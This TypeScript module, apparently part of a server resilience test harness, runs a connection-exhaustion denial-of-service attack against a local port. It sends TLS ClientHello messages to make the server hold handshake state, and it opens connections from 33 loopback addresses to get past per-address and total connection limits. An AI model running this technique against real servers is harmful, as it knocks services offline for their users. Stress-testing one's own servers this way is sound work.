import { connect } from 'node:net';
import { Duplex } from 'node:stream';
import { connect as connectTls } from 'node:tls';
import { type Attack, inLanes, overAt, type Piece } from './attack.ts';

/** From so many addresses; each may have 64 connections, and strangers 1,024 in all. */
const ADDRESSES = 33;
const CONNECTIONS = 64;
/** Begins a handshake, which makes the other side keep the state of one. */
const HELLO = await clientHello();

function clientHello(): Promise<Buffer> {
  const wire = new Duplex({ read: () => {}, write: (chunk: Buffer) => done.resolve(chunk) });
  const done = Promise.withResolvers<Buffer>();
  connectTls({ socket: wire });
  return done.promise;
}

const holdOne =
  (localAddress: string): Piece =>
  ({ port }, signal) =>
    new Promise((resolve) => {
      const socket = connect({ host: '127.0.0.1', port, localAddress });
      const end = () => {
        socket.destroy();
        resolve();
      };
      void overAt(signal).then(end);
      socket.on('error', end);
      socket.once('close', end);
      socket.resume().write(HELLO);
    });

/** Takes every place there is, and each one anew as soon as it is free. */
export const fullSlots: Attack = async (target, signal) => {
  const addresses = Array.from({ length: ADDRESSES }, (_, index) => `127.0.1.${index + 1}`);
  await Promise.all(
    addresses.map((address) => inLanes(CONNECTIONS, holdOne(address))(target, signal)),
  );
  return {};
};
